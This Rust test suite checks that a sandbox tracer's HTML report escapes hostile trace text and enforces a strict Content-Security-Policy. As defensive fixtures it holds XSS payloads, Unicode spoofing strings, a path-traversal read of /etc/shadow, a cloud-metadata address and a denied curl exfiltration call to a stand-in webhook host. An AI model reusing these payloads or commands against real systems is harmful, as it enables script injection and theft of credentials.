//! The page of a trace: what is in it, and what a browser makes of it.
// A test may fail by panicking.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::path::PathBuf;

use skillsandbox_test_support::browser::{Browser, Shown};
use skillsandbox_test_support::stories;
use skillsandbox_tracer::render::html::{self, PageOptions};
use skillsandbox_tracer::{EventKind, EventVerdict, Trace};

fn page(trace: &Trace) -> String {
    let mut out = Vec::new();
    html::write_page(&mut out, trace, PageOptions::default()).unwrap();
    String::from_utf8(out).unwrap()
}

/// A folder of its own, and the page in it.
fn written(text: &str) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("trace.html");
    std::fs::write(&file, text).unwrap();
    (folder, file)
}

fn title(shown: &Shown) -> &str {
    shown.dom.split_once("<title>").unwrap().1.split_once("</title>").unwrap().0
}

/// The body, without the page's own style and script.
fn body(text: &str) -> &str {
    text.split_once("<body>").unwrap().1.split_once("<script>").unwrap().0
}

/// What the browser made of it.
fn made(shown: &Shown) -> &str {
    body(&shown.dom)
}

/// The texts of the cells of a table, row by row.
fn cells(text: &str, id: &str) -> Vec<Vec<String>> {
    let table = text.split_once(&format!("<table id=\"{id}\"")).unwrap().1.split_once("</table>").unwrap().0;
    let rows = table.split("<tr").skip(2);
    let of_cell = |cell: &str| cell.split_once('>').unwrap().1.split("</td>").next().unwrap().to_owned();
    rows.map(|row| row.split("<td").skip(1).map(of_cell).collect()).collect()
}

#[test]
fn no_text_of_a_trace_is_markup() {
    let text = page(&stories::hostile());
    assert_eq!(text.matches("</script").count(), 1);
    assert_eq!(text.matches("<script").count(), 1);
    let body = body(&text);
    for wrong in ["<!--", "<img", "<svg/", "<x ", "\u{2028}", "\u{202e}", "\u{200b}", "\u{1b}", "\u{feff}"] {
        assert!(!body.contains(wrong), "{wrong:?}");
    }
    // Every element is one of the page's own.
    let own = [
        "a", "b", "bdi", "br", "code", "dd", "div", "dl", "dt", "form", "h1", "h2", "h3", "header", "i",
        "input", "label", "li", "main", "option", "output", "p", "rect", "section", "select", "span",
        "strong", "svg", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
    ];
    for piece in body.split('<').skip(1) {
        let name: String =
            piece.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(own.contains(&name.as_str()), "<{}", piece.chars().take(60).collect::<String>());
        let element = piece.split_once('>').unwrap().0;
        assert!(!element.contains(" on") && !element.contains(" style="), "{element}");
        assert!(!element.contains("javascript:"), "{element}");
    }
}

#[test]
fn long_names_are_cut_and_the_page_stays_small() {
    let long = "x<".repeat(32 << 10);
    let mut maker = stories::Maker::new(&long);
    for number in 0..5_000_u32 {
        let path = format!("/{number}/{long}");
        maker.after(1, stories::file(skillsandbox_tracer::FileOperation::Read, &path, EventVerdict::Denied));
    }
    let text = page(&maker.trace());
    assert!(text.len() < 5_000_000, "{}", text.len());
    assert!(text.contains("without a row here"));
}

#[test]
fn the_process_tree_adds_up_to_the_totals() {
    for trace in [stories::weather(), stories::malicious_weather(), stories::many(2_000)] {
        let text = page(&trace);
        let rows = cells(&text, "processes");
        let numbers =
            |row: &Vec<String>| -> Vec<u64> { row[1..].iter().map(|cell| cell.parse().unwrap()).collect() };
        let (total, parts) = rows.split_last().unwrap();
        let mut sum = vec![0; 6];
        for row in parts {
            for (sum, part) in sum.iter_mut().zip(numbers(row)) {
                *sum += part;
            }
        }
        assert_eq!(sum, numbers(total));
        let summary = &trace.violation_summary;
        assert_eq!(sum[..4], [summary.allowed, summary.denied, summary.failed, summary.unknown]);
        assert_eq!(sum[5], trace.events.iter().map(|event| event.count).sum::<u64>());
        for row in parts {
            let row = numbers(row);
            assert_eq!(row[..5].iter().sum::<u64>(), row[5]);
        }
    }
}

#[test]
fn the_banner_says_what_happened_what_got_out_and_what_to_do() {
    let banner = |trace: &Trace| {
        let text = page(trace);
        text.split_once("<header").unwrap().1.split_once("</header>").unwrap().0.to_owned()
    };
    let benign = banner(&stories::weather());
    for text in [
        "banner good",
        "Nothing was denied, and nothing looks like an attack. It ended with exit code 0 after",
        "742 B sent: 742 B to api.weather.test:443.",
        "<dt>What to do</dt><dd>Nothing.</dd>",
    ] {
        assert!(benign.contains(text), "{text}\n{benign}");
    }
    let attack = banner(&stories::malicious_weather());
    for text in [
        "banner held",
        "7 findings, severity critical: no attempt that proves it took effect",
        "Do not run it again before somebody has read its code.",
    ] {
        assert!(attack.contains(text), "{text}\n{attack}");
    }
    // What nobody saw is not called nothing.
    let mut lost = stories::weather();
    lost.violation_summary.complete = false;
    lost.violation_summary.lost = 3;
    assert!(banner(&lost).contains("Whether more got out is not known: the trace is not complete"));
    let mut unseen = stories::weather();
    let connection =
        unseen.events.iter_mut().find(|event| matches!(event.kind, EventKind::NetConnect(_))).unwrap();
    connection.verdict = Some(EventVerdict::Unknown);
    (unseen.violation_summary.allowed, unseen.violation_summary.unknown) =
        (unseen.violation_summary.allowed - 1, 1);
    let unseen = banner(&unseen);
    assert!(
        unseen.contains("banner bad") && unseen.contains("it is not known whether anything was sent"),
        "{unseen}"
    );
    let mut open = stories::malicious_weather();
    open.violation_summary.all_prevented = false;
    open.violation_summary.classifications[0].prevented = false;
    let open = banner(&open);
    assert!(open.contains("banner bad") && open.contains("replace every credential"), "{open}");
}

#[test]
fn two_hundred_thousand_events_are_a_page_of_less_than_five_megabytes() {
    let trace = stories::many(200_000);
    let text = page(&trace);
    assert!(text.len() < 5_000_000, "{}", text.len());
    // Every event is in a row, or counted in one.
    let said = text.split_once(" events in the trace; ").unwrap().1;
    let (rows, rest) = said.split_once(" rows here, ").unwrap();
    let counted: usize = rest.split_once(" counted").unwrap().0.parse().unwrap();
    assert_eq!(rows.parse::<usize>().unwrap() + counted, 200_000);
    let without: usize = text
        .split("<td class=\"w\">")
        .filter_map(|cell| {
            cell.split_once(" without a row here").or(cell.split_once(" of libraries and data"))
        })
        .map(|(count, _)| count.split_whitespace().next().unwrap().parse::<usize>().unwrap())
        .sum();
    assert!(without >= counted, "{without} {counted}");
}

#[test]
fn reads_of_libraries_share_a_row_of_the_timeline() {
    use skillsandbox_tracer::FileOperation::Read;
    let mut maker = stories::Maker::new("reader");
    for number in 0..50 {
        maker.after(1, stories::file(Read, &format!("/usr/lib/python3/{number}.py"), EventVerdict::Allowed));
    }
    maker.after(1, stories::file(Read, "/work/input.txt", EventVerdict::Allowed));
    maker.after(1, stories::file(Read, "/usr/lib/../../etc/shadow", EventVerdict::Allowed));
    maker.after(1, stories::file(Read, "/usr/lib/secret", EventVerdict::Denied));
    let text = page(&maker.trace());
    assert!(text.contains("50 reads of libraries and data of the system: /usr/lib"), "{text}");
    let rows = cells(&text, "timeline");
    assert_eq!(rows.len(), 4, "{rows:?}");
    assert!(rows[2][5].contains("/usr/lib/../../etc/shadow"));
}

#[test]
fn the_policy_allows_its_own_script_and_style_and_nothing_else() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let text = page(&stories::weather());
    let policy =
        text.split_once("Content-Security-Policy\" content=\"").unwrap().1.split_once('"').unwrap().0;
    assert!(policy.starts_with("default-src 'none'; "), "{policy}");
    assert!(!policy.contains("unsafe") && !policy.contains('*') && !policy.contains("http"), "{policy}");
    let hash = |text: &str| {
        let digest = sha2::Sha256::digest(text.as_bytes());
        format!("'sha256-{}'", base64::engine::general_purpose::STANDARD.encode(digest))
    };
    let script = text.split_once("<script>").unwrap().1.split_once("</script>").unwrap().0;
    let style = text.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    assert!(policy.contains(&format!("script-src {};", hash(script))), "{policy}");
    assert!(policy.contains(&format!("style-src {};", hash(style))), "{policy}");
    // Nothing is said before the policy that it would have had to allow.
    assert!(text.find("Content-Security-Policy").unwrap() < text.find("<style>").unwrap());
}

#[test]
fn no_text_of_a_trace_becomes_a_script_or_an_element() {
    let Some(browser) = Browser::find() else { return };
    let (_folder, file) = written(&page(&stories::hostile()));
    for place in ["", "#event=2", "#e7", "#text=onerror", "#verdict=%3Cimg%20src=x%3E&text=__proto__"] {
        let shown = browser.open(&file, place);
        assert_eq!(title(&shown), "SkillSandbox trace", "{place}");
        assert!(
            shown.dom.contains("data-ready=\"240\""),
            "{place}: the script did not end\n{:?}",
            shown.console
        );
        assert_eq!(shown.console, [""; 0], "{place}");
        for tag in ["<img", "<svg/", "<x ", "<script>d", "<!--"] {
            assert!(!made(&shown).contains(tag), "{place}: {tag}");
        }
    }
    let shown = browser.open(&file, "");
    // It is all there to be read.
    assert!(made(&shown).contains("&lt;svg/onload=document.title=`PWNED`&gt;"));
    assert!(made(&shown).contains("invoice\\u{202e}fdp.exe\\u{2066}\\u{2069}"));
    assert!(made(&shown).contains("zero\\u{200b}width\\u{feff}\\u{e0041}\\u{e0042}"));
}

/// The control: what the test before looks for is seen where it happens, and each of the page's two walls holds alone.
#[test]
fn the_browser_would_have_run_it() {
    let Some(browser) = Browser::find() else { return };
    let safe = page(&stories::weather());
    let attack = "<script>document.title=`PWNED`</script><img src=x onerror='document.title=`PWNED`'>";
    let broken = safe.replace("</main>", &format!("</main>{attack}"));
    // With the policy: nothing runs, and the console says so.
    let (_folder, file) = written(&broken);
    let shown = browser.open(&file, "");
    assert_eq!(title(&shown), "SkillSandbox trace");
    assert!(shown.console.iter().any(|line| line.contains("Content Security Policy")), "{:?}", shown.console);
    // Without it: it does.
    let start = broken.find("<meta http-equiv").unwrap();
    let end = start + broken[start..].find('\n').unwrap();
    let (_folder, file) = written(&format!("{}{}", &broken[..start], &broken[end..]));
    assert_eq!(title(&browser.open(&file, "")), "PWNED");
}

#[test]
fn a_page_shows_what_happened_with_and_without_its_script() {
    let Some(browser) = Browser::find() else { return };
    let (folder, file) = written(&page(&stories::malicious_weather()));
    let shown = browser.open(&file, "");
    let texts = [
        "7 findings, severity critical: no attempt that proves it took effect",
        "weather-lookup-malicious",
        "https://attack.mitre.org/techniques/T1552/001/",
        "/usr/bin/python3.12 <i>(41872)</i>",
        "exec denied</b> curl -s https://webhook.test/dWlkPTA=",
        "169.254.169.254:80 tcp",
    ];
    let plain = page(&stories::malicious_weather());
    for text in texts {
        assert!(made(&shown).contains(text), "{text}\n{}", made(&shown));
        assert!(body(&plain).contains(text), "{text}");
    }
    assert!(made(&shown).contains("27 of 27 rows"), "{}", made(&shown));
    let denied = browser.open(&file, "#verdict=denied&text=ssh");
    assert!(made(&denied).contains("2 of 27 rows"), "{}", made(&denied));
    let one = browser.open(&file, "#event=18");
    assert!(made(&one).contains("<tr id=\"e18\" class=\"denied picked\">"));
    // One that says less than its events do is not believed.
    let mut edited = stories::malicious_weather();
    edited.violation_summary.denied = 0;
    edited.violation_summary.classifications.clear();
    assert!(page(&edited).contains("Doubtful: the summary says 0 denied, its events add up to"));
    for honest in [stories::weather(), stories::malicious_weather()] {
        assert!(!page(&honest).contains("Doubtful"));
    }
    let picture = std::fs::read(browser.picture(&file, &folder.path().join("page.png"))).unwrap();
    assert!(picture.starts_with(b"\x89PNG"));
}

#[test]
fn two_hundred_thousand_events_make_few_elements() {
    let Some(browser) = Browser::find() else { return };
    let (_folder, file) = written(&page(&stories::many(200_000)));
    let shown = browser.open(&file, "#text=id_rsa");
    assert!(shown.dom.contains("data-ready="), "{:?}", shown.console);
    assert_eq!(shown.console, [""; 0]);
    let elements = made(&shown).matches('<').count();
    assert!(elements < 60_000, "{elements}");
}
